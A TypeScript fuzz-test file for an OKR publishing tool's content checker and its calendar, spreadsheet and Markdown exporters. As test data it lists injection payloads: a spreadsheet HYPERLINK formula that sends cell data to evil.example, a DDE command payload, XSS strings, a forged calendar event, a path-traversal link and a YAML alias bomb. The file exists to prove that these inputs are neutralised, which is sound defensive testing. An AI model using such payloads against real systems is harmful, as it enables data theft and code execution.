/**
 * Fuzzing `check`: a valid content root mutated at random (lines deleted,
 * value types swapped, files truncated, invalid UTF-8 and control characters,
 * duplicated keys, broken indentation). `check` must always finish with exit
 * 0 or 1, never crash or print a stack trace, and name the mutated file when
 * it fails. The seed is printed on failure (fast-check), so a case replays.
 *
 * The unit loop runs a sample of each property (a twentieth of its cases,
 * a new sample every run); the cli project runs every case under CI=true
 * (OKRBOOK_FUZZ=full, vitest.config.ts).
 */
import fc from 'fast-check';
import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { check } from '../../src/cli/check.ts';
import ICAL from 'ical.js';
import { markdownToHtml } from 'satteri';
import { calendarEvents, calendarIcs } from '../../src/export/calendar-ics.ts';
import { computeFigures } from '../../src/figures/index.ts';
import { escapeMarkdown } from '../../src/lib/escape-markdown.ts';
import { NUMBER_TEXT, neutraliseCell, restoreCell } from '../../src/lib/spreadsheet.ts';
import { cleanContentRoots, contentRoot, load } from '../helpers.ts';
import * as builder from '../model-builder.ts';
import { teamSchema } from '../../src/schemas/team.ts';

afterAll(cleanContentRoots);

const full = process.env.OKRBOOK_FUZZ === 'full';
/** The cases of a property: all of them in the full run, a sample (at least 10) in the unit loop. */
const runs = (all: number) => (full ? all : Math.max(10, Math.ceil(all / 20)));
// A timeout far above any machine's time for the full run: it stops a hang, and never judges speed.

const root = contentRoot({}, 'edge');
const files = (() => {
  const out: string[] = [];
  const walk = (dir: string) => {
    for (const name of readdirSync(path.join(root, dir))) {
      const rel = dir ? `${dir}/${name}` : name;
      if (statSync(path.join(root, rel)).isDirectory()) walk(rel);
      else out.push(rel);
    }
  };
  walk('');
  return out.sort();
})();
const originals = new Map(files.map((f) => [f, readFileSync(path.join(root, f))]));

type Mutation =
  | { kind: 'delete-line'; at: number }
  | { kind: 'swap-type'; at: number; value: string }
  | { kind: 'truncate'; at: number }
  | { kind: 'invalid-utf8'; at: number }
  | { kind: 'control'; at: number; char: number }
  | { kind: 'duplicate-key'; at: number }
  | { kind: 'indent'; at: number; spaces: number }
  | { kind: 'extreme'; at: number; value: string }
  | { kind: 'body'; text: string }
  | { kind: 'alias-bomb' }
  | { kind: 'hostile-text'; at: number; value: string };

/** Issue 26: texts that must never become a calendar line, a formula, a control character or markup anywhere. */
const HOSTILE_TEXTS = [
  'Sales\r\nBEGIN:VEVENT\r\nUID:checkin-sales-2026-q3-2026-07-01@okrbook\r\nEND:VEVENT',
  'Alpha\u001b[0m',
  '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '<img src=x onerror=alert(1)> [x](javascript:alert(1)) {/* c */}',
  `Siti ${'Nurhaliza '.repeat(32)}binti Tarudin`,
  'Zoe\u0308 NG',
];

const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('delete-line' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('swap-type' as const), at: fc.nat(), value: fc.constantFrom('true', '[]', '{}', '"text"', '42', '-1e400', '.nan', '~', '2026-02-30', "''", '[1, 2]', 'yes') }),
  fc.record({ kind: fc.constant('truncate' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('invalid-utf8' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('control' as const), at: fc.nat(), char: fc.integer({ min: 0, max: 31 }) }),
  fc.record({ kind: fc.constant('duplicate-key' as const), at: fc.nat() }),
  fc.record({ kind: fc.constant('indent' as const), at: fc.nat(), spaces: fc.integer({ min: -4, max: 5 }) }),
  // Issue 14: numbers and dates at and past the documented ranges, bodies Astro would stop on, a YAML bomb.
  fc.record({ kind: fc.constant('extreme' as const), at: fc.nat(), value: fc.constantFrom('1e308', '-1e308', '1e16', '1e15', '1e-300', '1000000000000', '9999-12-31', '0001-01-01', '2999-12-31', '1900-01-01', '.inf') }),
  fc.record({ kind: fc.constant('body' as const), text: fc.constantFrom('<Callout>\nopen', '<!-- internal -->', '![x](./missing.png)', "import X from './nope.astro'\n\n<X />", '{', '<img src="./gone.jpg">', '![x](../../../../../etc/passwd)') }),
  fc.record({ kind: fc.constant('alias-bomb' as const) }),
  // Issue 26: texts that forge calendar lines, run as spreadsheet formulas, carry control characters or markup, or make long slugs.
  fc.record({ kind: fc.constant('hostile-text' as const), at: fc.nat(), value: fc.constantFrom(...HOSTILE_TEXTS.map((text) => JSON.stringify(text))) }),
);

const BOMB = ['bomb_a: &a [x, x, x, x, x, x, x, x, x, x]', ...'bcdefgh'.split('').map((k, i) => `bomb_${k}: &${k} [${Array(10).fill(`*${'abcdefgh'[i]}`).join(', ')}]`), 'odd: !unknown value'];

/** Applies a mutation to a file's bytes. */
function mutate(bytes: Buffer, m: Mutation): Buffer {
  const text = bytes.toString('utf8');
  const lines = text.split('\n');
  const line = ('at' in m ? m.at : 0) % Math.max(lines.length, 1);
  switch (m.kind) {
    case 'delete-line':
      lines.splice(line, 1);
      return Buffer.from(lines.join('\n'));
    case 'swap-type': {
      lines[line] = (lines[line] ?? '').replace(/:\s.*$/, `: ${m.value}`);
      return Buffer.from(lines.join('\n'));
    }
    case 'truncate':
      return bytes.subarray(0, m.at % (bytes.length + 1));
    case 'invalid-utf8': {
      const at = m.at % (bytes.length + 1);
      return Buffer.concat([bytes.subarray(0, at), Buffer.from([0xff, 0xfe, 0xc3]), bytes.subarray(at)]);
    }
    case 'control': {
      const at = m.at % (text.length + 1);
      return Buffer.from(text.slice(0, at) + String.fromCharCode(m.char) + text.slice(at));
    }
    case 'duplicate-key':
      lines.splice(line, 0, lines[line] ?? '');
      return Buffer.from(lines.join('\n'));
    case 'extreme': {
      lines[line] = (lines[line] ?? '').replace(/:\s.*$/, `: ${m.value}`);
      return Buffer.from(lines.join('\n'));
    }
    case 'body':
      return Buffer.from(`${text}\n\n${m.text}\n`);
    case 'hostile-text': {
      lines[line] = (lines[line] ?? '').replace(/:\s.*$/, `: ${m.value}`);
      return Buffer.from(lines.join('\n'));
    }
    case 'alias-bomb':
      lines.splice(1, 0, ...BOMB);
      return Buffer.from(lines.join('\n'));
    case 'indent': {
      const current = lines[line] ?? '';
      lines[line] = m.spaces >= 0 ? ' '.repeat(m.spaces) + current : current.replace(new RegExp(`^ {0,${-m.spaces}}`), '');
      return Buffer.from(lines.join('\n'));
    }
  }
}

const env = { OKRBOOK_CONTENT: root, OKRBOOK_AS_OF: '2026-08-15' };

describe('check on randomly broken content', () => {
  it('the unbroken root passes', () => {
    expect(check([], env).exitCode).toBe(0);
  });

  it(`never crashes, never prints a stack, and names the mutated file (${runs(1000)} cases)`, { timeout: full ? 900_000 : 120_000 }, () => {
    fc.assert(
      fc.property(fc.constantFrom(...files), mutationArb, (file, mutation) => {
        const target = path.join(root, file);
        writeFileSync(target, mutate(originals.get(file)!, mutation));
        try {
          const report = check(['--format', 'json'], env);
          expect([0, 1]).toContain(report.exitCode);
          expect(report.output).not.toMatch(/\n\s+at .+:\d+:\d+/);
          const parsed = JSON.parse(report.output) as { findings: Array<{ file: string; level: string; message: string }> };
          const errors = parsed.findings.filter((f) => f.level === 'error');
          // The mutated file is named: as the file of an error, or in the message of one it caused elsewhere
          // (a renamed key result makes the check-ins that update it fail, and they say where key results are defined).
          if (errors.length > 0) expect(errors.some((f) => f.file === file || f.message.includes(file)), JSON.stringify(errors)).toBe(true);
          // Accepted content computes finite figures only (issue 14: no NaN or Infinity is ever published).
          if (errors.length === 0 && mutation.kind === 'extreme') expect(nonFinite(computeFigures(load(root, { asOf: env.OKRBOOK_AS_OF }).model))).toEqual([]);
        } finally {
          writeFileSync(target, originals.get(file)!);
        }
      }),
      { numRuns: runs(1000) },
    );
  });
});

/** Paths of the numbers in a value that are NaN or infinite. */
function nonFinite(value: unknown, at = '', seen = new Set<unknown>()): string[] {
  if (typeof value === 'number') return Number.isFinite(value) ? [] : [`${at}: ${value}`];
  if (value === null || typeof value !== 'object' || seen.has(value)) return [];
  seen.add(value);
  const entries = value instanceof Map ? [...value.entries()] : Object.entries(value);
  return entries.flatMap(([key, item]) => nonFinite(item, `${at}.${String(key)}`, seen));
}

describe('check on hostile files and names', () => {
  const specials = ['symlink-outside', 'symlink-dev-zero', 'symlink-loop', 'fifo', 'huge'] as const;

  it(`names every special file that replaces a content file, and never blocks (${runs(100)} cases)`, { timeout: full ? 900_000 : 120_000 }, () => {
    const entryFiles = files.filter((f) => /\.mdx?$/.test(f));
    fc.assert(
      fc.property(fc.constantFrom(...entryFiles), fc.constantFrom(...specials), (file, special) => {
        const target = path.join(root, file);
        rmSync(target);
        try {
          if (special === 'symlink-outside') symlinkSync(path.join(tmpdir(), 'okrbook-nowhere.md'), target);
          if (special === 'symlink-dev-zero') symlinkSync('/dev/zero', target);
          if (special === 'symlink-loop') symlinkSync(path.basename(target), target);
          if (special === 'fifo') execFileSync('mkfifo', [target]);
          if (special === 'huge') writeFileSync(target, Buffer.alloc(2 * 1024 * 1024, 0x61));
          const report = check(['--format', 'json'], { ...env, OKRBOOK_MAX_FILE_MB: '1' });
          expect(report.exitCode).toBe(1);
          const parsed = JSON.parse(report.output) as { findings: Array<{ file: string; level: string }> };
          expect(parsed.findings.some((f) => f.level === 'error' && f.file === file)).toBe(true);
        } finally {
          rmSync(target, { force: true });
          writeFileSync(target, originals.get(file)!);
        }
      }),
      { numRuns: runs(100) },
    );
  });

  it(`prints one line per finding whatever a file is named (${runs(200)} cases)`, { timeout: full ? 900_000 : 120_000 }, () => {
    const nameArb = fc.string({ unit: fc.constantFrom(...'aZ09-_.#?%41\\ :\n\r\t\u001b\u2028é'.split('')), minLength: 1, maxLength: 12 }).filter((name) => !name.includes('/') && name !== '.' && name !== '..');
    fc.assert(
      fc.property(nameArb, fc.constantFrom('.md', '.mdx', '.MD'), (name, extension) => {
        const source = files.find((f) => f.startsWith('okrs/'))!;
        const target = path.join(root, path.dirname(source), `${name}${extension}`);
        writeFileSync(target, originals.get(source)!);
        try {
          const report = check([], env);
          expect([0, 1]).toContain(report.exitCode);
          expect(report.output.split('\n')).toHaveLength(report.findings.length + 1);
        } finally {
          rmSync(target, { force: true });
        }
      }),
      { numRuns: runs(200) },
    );
  });
});

/** Issue 26: the writers of calendars, spreadsheets and scaffolds, on any text. */
describe('writers on hostile text', () => {
  // Letters, Markdown, HTML, MDX and iCalendar syntax, spreadsheet formula leads, line breaks and control characters.
  const hostileChar = fc.constantFrom(...'aZ9 é漢\\`*_{}[]()<>#+-.!|~&;,=@\'"/\t\r\n\u0000\u0007\u000b\u001b\u007f'.split(''), 'BEGIN:VEVENT', 'UID:', '&amp;', '-->', '<!--');
  const hostileText = fc.string({ unit: hostileChar, minLength: 1, maxLength: 40 });
  // A name the team schema accepts (not blank): content `check` refuses never reaches a writer.
  const hostileName = hostileText.filter((name) => teamSchema.shape.name.safeParse(name).success);

  it('a calendar name or team name never adds a line, an event or a control character (200 cases)', () => {
    const q3 = builder.cycle('2026-q3', '2026-07-01', '2026-09-30');
    fc.assert(
      fc.property(hostileName, hostileText, (name, title) => {
        const m = builder.model({ asOf: '2026-08-15', cycles: [q3], teams: [builder.team('sales', { name })], objectives: [builder.objective('2026-q3/sales/win', 'sales', '2026-q3', [builder.kr('a')])] });
        const events = calendarEvents(m, computeFigures(m), { origin: null, base: '/', domain: 'okrbook' }, 'sales');
        const text = calendarIcs(title, events, '2026-08-15');
        expect(text.endsWith('\r\n')).toBe(true);
        const lines = text.split('\r\n').slice(0, -1);
        expect(lines.filter((line) => /[\u0000-\u0008\u000a-\u001f\u007f]/.test(line))).toEqual([]);
        expect(lines.filter((line) => line.startsWith('BEGIN:'))).toHaveLength(events.length + 1);
        expect(new ICAL.Component(ICAL.parse(text)).getAllSubcomponents('vevent')).toHaveLength(events.length);
      }),
      { numRuns: 200 },
    );
  });

  it('a spreadsheet cell never starts a formula, and import reads back what was written (1,000 cases)', () => {
    fc.assert(
      fc.property(hostileText, (text) => {
        const cell = neutraliseCell(text);
        if (!NUMBER_TEXT.test(cell)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
        expect(restoreCell(cell)).toBe(text);
      }),
      { numRuns: 1000 },
    );
  });

  it('a text copied into a scaffold renders as that text, in one paragraph and no element (1,000 cases)', () => {
    const escapeHtml = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;');
    fc.assert(
      fc.property(hostileText.filter((text) => /[^\s\u0000-\u001f\u007f]/.test(text)), (text) => {
        // Control characters are refused by check before any scaffold reads a text.
        const clean = text.replace(/[\u0000-\u0008\u000b-\u001f\u007f]/g, '');
        fc.pre(clean.trim() !== '');
        const html = markdownToHtml(`Before ${escapeMarkdown(clean)} after`, { features: { gfm: true, smartPunctuation: false } }).html.trim();
        // GFM links a plain address (`a@b.c`, `www.`, `https:`) whatever is escaped: only those, never another scheme.
        const unlinked = html.replace(/<a href="(?:mailto:|https?:\/\/)[^"<>]*">([^<]*)<\/a>/g, '$1');
        expect(unlinked).toBe(`<p>Before ${escapeHtml(clean.replace(/\s+/g, ' ').trim())} after</p>`);
      }),
      { numRuns: 1000 },
    );
  });
});
